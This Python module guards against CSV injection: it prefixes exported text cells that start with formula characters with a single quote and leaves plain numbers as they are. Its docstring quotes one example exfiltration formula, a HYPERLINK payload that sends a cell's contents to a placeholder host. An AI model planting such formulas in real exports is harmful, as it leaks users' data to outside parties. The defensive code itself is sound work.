"""CSV cells a spreadsheet would run as formulas, made inert (CSV injection): the one guard
every CSV ironriver writes for people goes through (`ledger --format csv`, `export --format
statements`, an ingest's error report).

Their text comes from agency files: a spreadsheet opening the CSV reads a cell starting with
`=`, `+`, `-` or `@` as a formula (some strip a leading tab or carriage return first), so a
value such as `=HYPERLINK("http://x/?"&A1,"open")` would run, and could send the row
elsewhere. Such a text cell is written with a single quote before it, the usual guard
(OWASP): a spreadsheet shows the text, and a program reading the file gets the quote as the
cell's first character. A cell that is a plain number (`-12.5`, `+52`, `-1e3`) is left as it
is: a spreadsheet reads it as that number, not as a formula. Numbers written as numbers
(not text) are never touched. (A top-level module: the CLI, `policy` and `ingest` share it.)
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    import pyarrow as pa

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
"""The characters a spreadsheet reads a cell's formula from (or strips before one)."""
QUOTE = "'"
_FORMULA_RE = "^[=+@\\t\\r-]"
_NUMBER_TEXT = "[+-]?(?:[0-9]+(?:\\.[0-9]*)?|\\.[0-9]+)(?:[eE][+-]?[0-9]+)?"
_NUMBER = re.compile(_NUMBER_TEXT)
_NUMBER_RE = f"^{_NUMBER_TEXT}$"  # (RE2, Arrow's: `$` is the end of the text only)


def inert(text: str) -> str:
    """`text` as a CSV cell no spreadsheet runs: with a single quote before it when it starts
    with a formula's character and is not a plain number (see the module doc)."""
    if text.startswith(FORMULA_START) and not _NUMBER.fullmatch(text):
        return QUOTE + text
    return text


def inert_cell(value: Any) -> Any:
    """`inert` for a text cell; any other value (a number, None) as it is."""
    return inert(value) if isinstance(value, str) else value


def inert_table(table: pa.Table) -> pa.Table:
    """`table` with every text cell `inert` (columns of other types as they are), computed
    column by column with Arrow kernels (an export's millions of cells)."""
    import pyarrow as pa
    import pyarrow.compute as pc

    columns = []
    for column in table.columns:
        if pa.types.is_string(column.type) or pa.types.is_large_string(column.type):
            risky = pc.and_(
                pc.match_substring_regex(column, _FORMULA_RE),
                pc.invert(pc.match_substring_regex(column, _NUMBER_RE)),
            )
            quoted = pc.binary_join_element_wise(QUOTE, column, "")
            column = pc.if_else(risky, quoted, column)
        columns.append(column)
    return pa.table(columns, schema=table.schema)
